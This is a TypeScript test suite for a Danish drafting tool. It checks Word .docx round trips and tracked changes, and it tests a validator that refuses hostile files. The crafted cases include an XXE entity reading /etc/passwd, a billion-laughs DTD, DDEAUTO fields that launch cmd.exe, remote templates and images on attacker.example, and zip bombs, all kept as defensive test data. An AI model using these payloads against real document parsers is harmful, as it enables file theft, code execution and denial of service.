import { deflateRawSync } from 'node:zlib';
import { strFromU8, unzipSync } from 'fflate';
import fc from 'fast-check';
import { mapWords } from '../sources/citations.pure.js';
import { anyTree } from '../../../test/support/document-trees.js';
import {
  documentXml,
  paragraphXml,
  rawPackage,
  relation,
  relations,
  wordFile,
  wordParts,
} from '../../../test/support/word-files.js';
import { fornyetBehandlingV1 as procedure } from '../../procedure/fornyet-behandling.v1.js';
import { parseTree, type DocumentTree } from '../../platform/text/document-tree.js';
import { compareContents } from '../difference/difference.pure.js';
import { changesDocx, textDocx } from '../word-out/section-docx.js';
import { readWord } from './read-word.js';
import { inspectWord } from './word-package.js';
import { WordFault } from './word-rules.pure.js';
import { wordText } from './word-tree.pure.js';

const about = {
  caseNumber: '1',
  title: 'Afsnit',
  version: 'Version 2',
  hash: 'a'.repeat(64),
  madeAt: '2024-04-08T07:00:00Z',
};
const content = (body: DocumentTree) => ({ body, answers: {}, ledger: {} });
const revision = (number: number, body: DocumentTree) => ({
  section: 'placement',
  number,
  hash: `${number}`.repeat(64),
  madeAt: '2024-04-08T07:00:00Z',
  current: true,
  content: content(body),
});
async function changed(before: DocumentTree, after: DocumentTree): Promise<Buffer> {
  const difference = compareContents(procedure, 'placement', content(before), content(after));
  return Buffer.from(
    await changesDocx({ difference, before: revision(1, before), after: revision(2, after) }, about),
  );
}
const readTree = async (docx: Buffer) => wordText(await readWord(docx)).tree;
const codeOf = async (file: Buffer) => {
  const fault = await inspectWord(file).then(
    () => null,
    (error: unknown) => error,
  );
  if (fault !== null && !(fault instanceof WordFault)) throw fault as Error;
  return fault?.code ?? null;
};

/** The document with every change refused, as Word leaves it. */
function rejected(docx: Buffer): Buffer {
  const parts = unzipSync(docx);
  const xml = strFromU8(parts['word/document.xml']!)
    .replace(/<w:tr>(?:(?!<\/w:tr>).)*?<w:trPr>(?:(?!<\/w:trPr>).)*<w:ins (?:(?!<\/w:tr>).)*<\/w:tr>/gs, '')
    .replace(/<w:p>(?:(?!<\/w:p>).)*?<w:rPr>(?:(?!<\/w:rPr>).)*<w:ins [^>]*\/>(?:(?!<\/w:p>).)*<\/w:p>/gs, '')
    .replace(/<w:ins [^>]*>(?:(?!<\/w:ins>).)*<\/w:ins>/gs, '')
    .replace(/<w:del [^>]*\/>/g, '')
    .replace(/<\/?w:del(?: [^>]*)?>/g, '')
    .replaceAll('w:delText', 'w:t');
  return wordFile({ ...parts, 'word/document.xml': xml });
}

/** Texts as Word can hold them: list items after another list begin none of their own, and columns have no headings. */
const trees = fc
  .array(anyTree, { minLength: 8, maxLength: 12 })
  .map((all) => parseTree({ type: 'doc', content: all.flatMap(({ content: blocks }) => blocks) }))
  .map((tree): DocumentTree => ({
    type: 'doc',
    content: tree.content.flatMap((block, index) => {
      const before = tree.content[index - 1];
      const list = (one: typeof block | undefined) =>
        one?.type === 'bulletList' || one?.type === 'orderedList';
      return list(block) && list(before) ? [] : [block];
    }),
  }))
  .map((tree) => parseTree(tree))
  .filter(({ content: blocks }) => blocks.length > 0);

describe('a text that goes out to Word and comes in again', () => {
  it('is the same text', async () => {
    await fc.assert(
      fc.asyncProperty(trees, async (tree) => {
        expect(await readTree(Buffer.from(await textDocx(tree, about)))).toEqual(bareHeadings(tree));
      }),
      { numRuns: 2, endOnFailure: true },
    );
  });

  it('with tracked changes is the later text when they are accepted and the earlier when they are rejected', async () => {
    await fc.assert(
      fc.asyncProperty(trees, trees, async (before, after) => {
        const docx = await changed(before, after);
        expect(await readTree(docx)).toEqual(bareHeadings(after));
        expect(await readTree(rejected(docx))).toEqual(bareHeadings(before));
      }),
      { numRuns: 3, endOnFailure: true },
    );
  });

  it('shows Word its changes as changes, with who and when', async () => {
    const one = (text: string) =>
      parseTree({ type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'text', text }] }] });
    const parts = unzipSync(
      await changed(one('Tyve pladser i Jylland.'), one('Fireogtyve pladser i Jylland.')),
    );
    const xml = strFromU8(parts['word/document.xml']!);
    expect(xml).toMatch(/<w:ins [^>]*w:author="Samsvar, version 2"[^>]*w:date="2024-04-08T07:00:00Z"/);
    expect(xml).toContain('<w:delText xml:space="preserve">Tyve</w:delText>');
    expect(strFromU8(parts['word/footer1.xml']!)).toContain('aaaaaaaa aaaaaaaa');
  });
});

const withoutSources = (tree: DocumentTree) =>
  mapWords(tree, (node) => ({ ...node, marks: node.marks?.filter(({ type }) => type !== 'cite') }));

/** Marks in a heading say nothing in Word: its style is bold. Sources: src/drafting/word-in/citations.spec.ts. */
const bareHeadings = (tree: DocumentTree) =>
  parseTree({
    ...tree,
    content: withoutSources(tree).content.map((block) =>
      block.type === 'heading'
        ? { ...block, content: block.content.map(({ type, text }) => ({ type, text })) }
        : block,
    ),
  });

describe('a Word file', () => {
  it('gives its comments with the block they are at, and says what it leaves out', async () => {
    const commented = documentXml(
      `${paragraphXml('Første stykke.')}<w:p><w:r><w:t>Andet stykke.</w:t></w:r><w:r><w:commentReference w:id="7"/></w:r></w:p><w:p><w:pPr><w:pStyle w:val="Heading5"/></w:pPr><w:r><w:t>Dybt</w:t></w:r></w:p>`,
    );
    const file = wordFile({
      ...wordParts(),
      'word/document.xml': commented,
      'word/_rels/document.xml.rels': relations(relation('rId9', 'comments', 'comments.xml')),
      'word/comments.xml': documentXml('').replace(
        /<w:document (.*)><w:body><\/w:body><\/w:document>/,
        `<w:comments $1><w:comment w:id="7" w:author="Sekretariat Syddanmark">${paragraphXml('Er det med?')}</w:comment></w:comments>`,
      ),
    });
    const { comments, notices, tree } = wordText(await readWord(file));
    expect(comments).toEqual([{ author: 'Sekretariat Syddanmark', text: 'Er det med?', block: 2 }]);
    expect(tree.content.map(({ type }) => type)).toEqual(['paragraph', 'paragraph', 'heading']);
    expect(notices).toEqual(['Overskrifter under niveau 3 er gjort til niveau 3.']);
  });

  it('without text, or read for too long, is refused with a Danish text', async () => {
    await expect(readWord(wordFile(wordParts(''))).then(wordText)).rejects.toThrow(
      'Dokumentet har ingen tekst.',
    );
    const broken = wordFile({ ...wordParts(), 'word/document.xml': '<w:document' });
    await expect(readWord(broken)).rejects.toThrow('Dokumentets tekst kunne ikke læses.');
  });

  const sound = wordParts();
  const withPart = (name: string, part: string | Uint8Array = 'x') => wordFile({ ...sound, [name]: part });
  const withRelation = (inner: string, name = 'word/_rels/document.xml.rels') =>
    withPart(name, relations(inner));
  const typed = (type: string) =>
    withPart(
      '[Content_Types].xml',
      sound['[Content_Types].xml']!.replace(/application\/vnd[^"]*main\+xml/, type),
    );
  const external = 'TargetMode="External"';
  const crafted: readonly (readonly [string, Buffer, string])[] = [
    ['a docm by its type', typed('application/vnd.ms-word.document.macroEnabled.main+xml'), 'macros'],
    ['a dotm by its type', typed('application/vnd.ms-word.template.macroEnabledTemplate.main+xml'), 'macros'],
    [
      'a spreadsheet',
      typed('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
      'notDocx',
    ],
    ['a VBA project', withPart('word/vbaProject.bin'), 'macros'],
    ['a VBA project elsewhere', withPart('x/VbaProject.bin'), 'macros'],
    ['VBA data', withPart('word/vbaData.xml', '<a/>'), 'macros'],
    ['a ribbon with macros', withPart('customUI/customUI14.xml', '<a/>'), 'macros'],
    ['an embedded workbook', withPart('word/embeddings/ark.xlsx'), 'embedded'],
    ['an OLE object', withPart('word/embeddings/oleObject1.bin'), 'embedded'],
    ['an ActiveX control', withPart('word/activeX/activeX1.xml', '<a/>'), 'embedded'],
    ['HTML to be taken in', withPart('word/afchunk.htm'), 'embedded'],
    ['an executable', withPart('word/media/setup.exe'), 'embedded'],
    ['a DTD', withPart('word/document.xml', documentXml('', '<!DOCTYPE w:document>')), 'doctype'],
    [
      'an entity from a file',
      withPart(
        'word/document.xml',
        documentXml('&x;', '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
      ),
      'doctype',
    ],
    [
      'a billion laughs',
      withPart(
        'word/document.xml',
        documentXml('&b;', '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>'),
      ),
      'doctype',
    ],
    ['a DTD in small letters', withPart('word/styles.xml', '<!doctype x><a/>'), 'doctype'],
    ['a DTD among the relations', withPart('word/_rels/document.xml.rels', '<!DOCTYPE x><a/>'), 'doctype'],
    ['a DTD in the properties', withPart('docProps/core.xml', '<!DOCTYPE x><a/>'), 'doctype'],
    [
      'UTF-16, where rules see nothing',
      withPart('word/document.xml', Buffer.from(`\uFEFF${documentXml('')}`, 'utf16le')),
      'encoding',
    ],
    [
      'UTF-7 by its own word',
      withPart('word/document.xml', '<?xml version="1.0" encoding="UTF-7"?><a/>'),
      'encoding',
    ],
    [
      'a template from the web',
      withRelation(
        relation('r', 'attachedTemplate', 'https://attacker.example/t.dotm', external),
        'word/_rels/settings.xml.rels',
      ),
      'external',
    ],
    [
      'a picture from the web',
      withRelation(relation('r', 'image', 'http://attacker.example/p.png', external)),
      'external',
    ],
    [
      'a picture from a share',
      withRelation(relation('r', 'image', '\\\\attacker.example\\p.png', external)),
      'external',
    ],
    ['a frame', withRelation(relation('r', 'frame', 'https://attacker.example/', external)), 'embedded'],
    ['a sub-document', withRelation(relation('r', 'subDocument', 'file:///c:/x.docx', external)), 'embedded'],
    ['an object by its relation', withRelation(relation('r', 'oleObject', 'x.xml')), 'embedded'],
    ['a chunk of another format', withRelation(relation('r', 'aFChunk', 'x.xml')), 'embedded'],
    [
      'an address that says it is inside',
      withRelation(relation('r', 'image', 'https://attacker.example/p.png')),
      'external',
    ],
    [
      'a field that starts a program',
      withPart(
        'word/document.xml',
        documentXml('<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>'),
      ),
      'fields',
    ],
    [
      'the same, cut into runs',
      withPart(
        'word/document.xml',
        documentXml(
          '<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r></w:p>',
        ),
      ),
      'fields',
    ],
    ['an older document', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'old'],
    ['a text', Buffer.from('Et notat.'), 'notDocx'],
    ['a package cut in half', withPart('word/x.xml', '<a/>').subarray(0, 300), 'broken'],
    [
      'no main part',
      wordFile({ '[Content_Types].xml': sound['[Content_Types].xml']!, '_rels/.rels': '<a/>' }),
      'notDocx',
    ],
  ];

  it.each(crafted)('with %s is refused', async (_name, file, code) => {
    expect(await codeOf(file)).toBe(code);
  });

  it('of at least thirty kinds is refused, and a sound one with a link is taken', async () => {
    expect(crafted.length).toBeGreaterThanOrEqual(30);
    const linked = withRelation(relation('r', 'hyperlink', 'https://www.sbst.dk/', external));
    expect(await codeOf(linked)).toBeNull();
  });

  it('that unpacks to far more than it weighs is refused at once, without being held', async () => {
    const deflated = (mb: number) => deflateRawSync(Buffer.alloc(mb * 1024 * 1024, 0x20));
    const [whole, eighth] = [deflated(56), deflated(7)];
    const one = (name: string, claims: number) => rawPackage([{ name, deflated: whole, claims }]);
    const bombs = Array.from({ length: 20 }, (_, index) => {
      if (index % 4 === 0) return one('word/document.xml', 56 * 1024 * 1024);
      if (index % 4 === 1) return one(`word/media/image${index}.png`, 56 * 1024 * 1024);
      // A package that lies about its sizes.
      if (index % 4 === 2) return one('word/document.xml', 1000 + index);
      const names = Array.from({ length: 8 }, (_part, part) => `word/part${part}.xml`);
      return rawPackage(names.map((name) => ({ name, deflated: eighth, claims: 7 * 1024 * 1024 })));
    });
    const before = process.memoryUsage().rss;
    let most = 0;
    for (const [index, bomb] of bombs.entries()) {
      expect(bomb.length).toBeLessThan(200_000);
      expect(await codeOf(bomb)).toBe(index % 4 === 2 ? 'broken' : 'tooBig');
      most = Math.max(most, process.memoryUsage().rss);
    }
    expect((most - before) / 1024 / 1024).toBeLessThan(100);
  });
});
